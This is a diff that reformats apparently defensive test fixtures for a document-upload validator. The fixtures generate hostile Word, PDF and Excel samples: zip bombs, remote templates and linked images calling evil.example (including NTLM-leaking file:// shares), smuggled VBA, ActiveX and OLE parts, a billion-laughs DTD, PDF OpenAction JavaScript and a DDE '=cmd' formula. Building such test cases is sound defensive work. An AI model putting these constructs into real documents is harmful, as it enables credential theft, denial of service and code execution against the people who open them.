@@ -59,27 +59,38 @@ const CT_DOCM = CT_DOCX.replace("wordprocessingml.document.main+xml", "ms-word.d
 const DOC = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>联盟章程</w:t></w:r></w:p></w:body></w:document>`;
 
 export const fixtures = {
-  docx: () => makeZip([{ name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) }, { name: "word/document.xml", data: Buffer.from(DOC) }]),
+  docx: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+      { name: "word/document.xml", data: Buffer.from(DOC) },
+    ]),
   pdf: () => Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
   encryptedPdf: () => Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 2 0 R>>\n%%EOF\n"),
   exe: () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(510, 0x90)]),
   legacyDoc: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]),
-  docm: () => makeZip([{ name: "[Content_Types].xml", data: Buffer.from(CT_DOCM) }, { name: "word/document.xml", data: Buffer.from(DOC) }]),
-  docxWithVba: () => makeZip([
-    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
-    { name: "word/document.xml", data: Buffer.from(DOC) },
-    { name: "word/vbaProject.bin", data: Buffer.from("vba") },
-  ]),
+  docm: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCM) },
+      { name: "word/document.xml", data: Buffer.from(DOC) },
+    ]),
+  docxWithVba: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+      { name: "word/document.xml", data: Buffer.from(DOC) },
+      { name: "word/vbaProject.bin", data: Buffer.from("vba") },
+    ]),
   // 50 MB of zeros deflates to ~50 KB: a ratio no real document has.
-  zipBomb: () => makeZip([
-    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
-    { name: "word/document.xml", data: Buffer.alloc(50 * 1024 * 1024, 0x20) },
-  ]),
+  zipBomb: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+      { name: "word/document.xml", data: Buffer.alloc(50 * 1024 * 1024, 0x20) },
+    ]),
   // A small archive that claims to unpack to 3 GB.
-  lyingZip: () => makeZip([
-    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
-    { name: "word/document.xml", data: Buffer.from(DOC), declaredSize: 3_000_000_000 },
-  ]),
+  lyingZip: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+      { name: "word/document.xml", data: Buffer.from(DOC), declaredSize: 3_000_000_000 },
+    ]),
   zipWithoutWord: () => makeZip([{ name: "hello.txt", data: Buffer.from("hi") }]),
   oversized: () => Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(20 * 1024 * 1024 + 1, 0x20)]),
 };
@@ -95,14 +106,19 @@ const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replac
 const HEADER_ROW = `<row r="1">${["统一社会信用代码", "单位名称", "单位类型", "联盟职务"].map((h, i) => `<c r="${"ABCD"[i]}1" t="inlineStr"><is><t>${h}</t></is></c>`).join("")}</row>`;
 
 /** A workbook whose first sheet holds `rows` (cells: a string, or { f, v } for a formula with its cached value). */
-export function makeXlsx(rows: (string | { f: string; v: string })[][], opts: { dimension?: string; extraParts?: { name: string; data: Buffer; contentType?: string }[] } = {}): Buffer {
+export function makeXlsx(
+  rows: (string | { f: string; v: string })[][],
+  opts: { dimension?: string; extraParts?: { name: string; data: Buffer; contentType?: string }[] } = {},
+): Buffer {
   const body = rows
     .map((cells, i) => {
       const r = i + 2;
       const cs = cells
         .map((c, j) => {
           const ref = `${String.fromCharCode(65 + j)}${r}`;
-          return typeof c === "string" ? `<c r="${ref}" t="inlineStr"><is><t>${esc(c)}</t></is></c>` : `<c r="${ref}" t="str"><f>${esc(c.f)}</f><v>${esc(c.v)}</v></c>`;
+          return typeof c === "string"
+            ? `<c r="${ref}" t="inlineStr"><is><t>${esc(c)}</t></is></c>`
+            : `<c r="${ref}" t="str"><f>${esc(c.f)}</f><v>${esc(c.v)}</v></c>`;
         })
         .join("");
       return `<row r="${r}">${cs}</row>`;
@@ -110,7 +126,10 @@ export function makeXlsx(rows: (string | { f: string; v: string })[][], opts: { 
     .join("");
   const dim = opts.dimension ?? `A1:L${rows.length + 1}`;
   const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="${dim}"/><sheetData>${HEADER_ROW}${body}</sheetData></worksheet>`;
-  const extra = (opts.extraParts ?? []).filter((p) => p.contentType).map((p) => `<Override PartName="/${p.name}" ContentType="${p.contentType}"/>`).join("");
+  const extra = (opts.extraParts ?? [])
+    .filter((p) => p.contentType)
+    .map((p) => `<Override PartName="/${p.name}" ContentType="${p.contentType}"/>`)
+    .join("");
   return makeZip([
     { name: "[Content_Types].xml", data: Buffer.from(CT_XLSX(extra)) },
     { name: "_rels/.rels", data: Buffer.from(ROOT_RELS) },
@@ -123,7 +142,8 @@ export function makeXlsx(rows: (string | { f: string; v: string })[][], opts: { 
 
 /** Issue 15's freezer: 100,000 formula rows, about 1 MB packed, that the old import parsed whole on the event loop. */
 export function formulaFlood(rows = 100_000): Buffer {
-  const one = (r: number) => `<row r="${r}"><c r="A${r}" t="str"><f>CONCATENATE("9122",ROW())</f><v>9122${r}</v></c><c r="B${r}" t="str"><f>REPT("联",ROW())</f><v>联</v></c><c r="C${r}"><f>1+1</f><v>2</v></c></row>`;
+  const one = (r: number) =>
+    `<row r="${r}"><c r="A${r}" t="str"><f>CONCATENATE("9122",ROW())</f><v>9122${r}</v></c><c r="B${r}" t="str"><f>REPT("联",ROW())</f><v>联</v></c><c r="C${r}"><f>1+1</f><v>2</v></c></row>`;
   const parts: string[] = [];
   for (let r = 2; r <= rows + 1; r++) parts.push(one(r));
   const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:C${rows + 1}"/><sheetData>${HEADER_ROW}${parts.join("")}</sheetData></worksheet>`;
@@ -139,9 +159,14 @@ export function formulaFlood(rows = 100_000): Buffer {
 // ---- Hostile documents of issue 15 (each generated here, never downloaded).
 
 const SETTINGS_RELS_REMOTE = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
-const rels = (inner: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
+const rels = (inner: string) =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
 const docxWith = (extra: { name: string; data: Buffer | string; deflated?: Buffer; declaredSize?: number }[], types = CT_DOCX) =>
-  makeZip([{ name: "[Content_Types].xml", data: Buffer.from(types) }, { name: "word/document.xml", data: Buffer.from(DOC) }, ...extra.map((e) => ({ ...e, data: Buffer.from(e.data) }))]);
+  makeZip([
+    { name: "[Content_Types].xml", data: Buffer.from(types) },
+    { name: "word/document.xml", data: Buffer.from(DOC) },
+    ...extra.map((e) => ({ ...e, data: Buffer.from(e.data) })),
+  ]);
 const typesWith = (extra: string) => CT_DOCX.replace("</Types>", `${extra}</Types>`);
 
 /**
@@ -159,28 +184,84 @@ const catalog = (extra: string) => `1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>
 /** Each hostile file with the refusal every document upload path must give. */
 export const hostileDocuments = {
   // A 1 MB .docx whose word/document.xml claims 4 KB and inflates to 1.1 GiB.
-  docxLyingBomb: () => makeZip([
-    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
-    { name: "word/document.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
-  ]),
-  docxRemoteTemplate: () => docxWith([{ name: "word/_rels/settings.xml.rels", data: SETTINGS_RELS_REMOTE }, { name: "word/settings.xml", data: "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>" }]),
+  docxLyingBomb: () =>
+    makeZip([
+      { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX) },
+      { name: "word/document.xml", data: Buffer.alloc(0), deflated: zeroBomb(1126), declaredSize: 4096 },
+    ]),
+  docxRemoteTemplate: () =>
+    docxWith([
+      { name: "word/_rels/settings.xml.rels", data: SETTINGS_RELS_REMOTE },
+      { name: "word/settings.xml", data: '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>' },
+    ]),
   // The same relationship spelled with character references and another case: an XML parser reads it as the original.
-  docxRemoteTemplateEscaped: () => docxWith([{ name: "word/_rels/settings.xml.rels", data: rels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/&#x61;ttachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="EXTERNAL"/>`) }]),
+  docxRemoteTemplateEscaped: () =>
+    docxWith([
+      {
+        name: "word/_rels/settings.xml.rels",
+        data: rels(
+          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/&#x61;ttachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="EXTERNAL"/>`,
+        ),
+      },
+    ]),
   // A linked picture fetched from elsewhere when the document opens (leaks the reader's address, or NTLM via file://).
-  docxExternalImage: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/x.png" TargetMode="External"/>`) }]),
+  docxExternalImage: () =>
+    docxWith([
+      {
+        name: "word/_rels/document.xml.rels",
+        data: rels(
+          `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/x.png" TargetMode="External"/>`,
+        ),
+      },
+    ]),
   // The VBA project under another part name, made code by its content type (mixed case).
-  docxVbaByContentType: () => docxWith([{ name: "word/vbaproject.bin", data: "vba" }], typesWith(`<Override PartName="/word/vbaproject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`)),
-  docxVbaByDefault: () => docxWith([{ name: "word/macros/m.dat", data: "vba" }], typesWith(`<Default Extension="DAT" ContentType="application/vnd.ms-office.VBAPROJECT"/>`)),
-  docxVbaRelationship: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="code.dat"/>`) }, { name: "word/code.dat", data: "vba" }]),
-  docxActiveX: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="ctl/c1.xml"/>`) }, { name: "word/ctl/c1.xml", data: "<ax/>" }]),
-  docxOleObject: () => docxWith([{ name: "word/embeddings/oleObject1.bin", data: "ole" }], typesWith(`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`)),
+  docxVbaByContentType: () =>
+    docxWith(
+      [{ name: "word/vbaproject.bin", data: "vba" }],
+      typesWith(`<Override PartName="/word/vbaproject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`),
+    ),
+  docxVbaByDefault: () =>
+    docxWith([{ name: "word/macros/m.dat", data: "vba" }], typesWith(`<Default Extension="DAT" ContentType="application/vnd.ms-office.VBAPROJECT"/>`)),
+  docxVbaRelationship: () =>
+    docxWith([
+      {
+        name: "word/_rels/document.xml.rels",
+        data: rels(`<Relationship Id="rId5" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="code.dat"/>`),
+      },
+      { name: "word/code.dat", data: "vba" },
+    ]),
+  docxActiveX: () =>
+    docxWith([
+      {
+        name: "word/_rels/document.xml.rels",
+        data: rels(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="ctl/c1.xml"/>`),
+      },
+      { name: "word/ctl/c1.xml", data: "<ax/>" },
+    ]),
+  docxOleObject: () =>
+    docxWith(
+      [{ name: "word/embeddings/oleObject1.bin", data: "ole" }],
+      typesWith(`<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`),
+    ),
   // An XML entity expansion ("billion laughs") in the content types: a DTD is refused outright.
-  docxDoctype: () => makeZip([
-    { name: "[Content_Types].xml", data: Buffer.from(CT_DOCX.replace("<Types", `<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Types`)) },
-    { name: "word/document.xml", data: Buffer.from(DOC) },
-  ]),
+  docxDoctype: () =>
+    makeZip([
+      {
+        name: "[Content_Types].xml",
+        data: Buffer.from(CT_DOCX.replace("<Types", `<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Types`)),
+      },
+      { name: "word/document.xml", data: Buffer.from(DOC) },
+    ]),
   // A plain hyperlink to a web page stays allowed (README: only plain hyperlinks may point outside).
-  docxHyperlink: () => docxWith([{ name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kjt.jl.gov.cn/" TargetMode="External"/>`) }]),
+  docxHyperlink: () =>
+    docxWith([
+      {
+        name: "word/_rels/document.xml.rels",
+        data: rels(
+          `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kjt.jl.gov.cn/" TargetMode="External"/>`,
+        ),
+      },
+    ]),
   pdfOpenActionJs: () => pdf(catalog("/OpenAction<</S/JavaScript/JS(app.alert('x'))>>")),
   pdfJsEscaped: () => pdf(catalog("/OpenAction 3 0 R") + "\n3 0 obj<</S/Java#53cript/J#53 4 0 R>>endobj"),
   pdfEncryptEscaped: () => Buffer.from(pdf(catalog("")).toString("latin1").replace("/Size 9", "/Size 9/Encr#79pt 5 0 R"), "latin1"),
@@ -192,7 +273,10 @@ export const hostileDocuments = {
     const inner = Buffer.from("3 0 <</S/JavaScript/JS(app.alert(1))>>");
     const packed = zlib.deflateSync(inner);
     return Buffer.concat([
-      Buffer.from(`%PDF-1.7\n${catalog("/OpenAction 3 0 R")}\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`, "latin1"),
+      Buffer.from(
+        `%PDF-1.7\n${catalog("/OpenAction 3 0 R")}\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
+        "latin1",
+      ),
       packed,
       Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n", "latin1"),
     ]);
@@ -211,12 +295,24 @@ export const hostileSheets = {
   literalCmd: () => makeXlsx([memberRow("=cmd|' /C calc'!A0")]),
   // A used range of a million rows declared in a file of a few hundred bytes.
   hugeDimension: () => makeXlsx([memberRow("吉林省某某科技有限公司")], { dimension: "A1:L1048576" }),
-  macroEnabled: () => makeXlsx([memberRow("吉林省某某科技有限公司")], { extraParts: [{ name: "xl/vbaProject.bin", data: Buffer.from("vba"), contentType: "application/vnd.ms-office.vbaProject" }] }),
+  macroEnabled: () =>
+    makeXlsx([memberRow("吉林省某某科技有限公司")], {
+      extraParts: [{ name: "xl/vbaProject.bin", data: Buffer.from("vba"), contentType: "application/vnd.ms-office.vbaProject" }],
+    }),
   externalLink: () =>
     makeXlsx([memberRow("吉林省某某科技有限公司")], {
       extraParts: [
-        { name: "xl/externalLinks/externalLink1.xml", data: Buffer.from("<externalLink/>"), contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml" },
-        { name: "xl/externalLinks/_rels/externalLink1.xml.rels", data: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/></Relationships>`) },
+        {
+          name: "xl/externalLinks/externalLink1.xml",
+          data: Buffer.from("<externalLink/>"),
+          contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
+        },
+        {
+          name: "xl/externalLinks/_rels/externalLink1.xml.rels",
+          data: Buffer.from(
+            `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/></Relationships>`,
+          ),
+        },
       ],
     }),
   // 1.1 GiB of zeros behind a sheet that claims 4 KB.
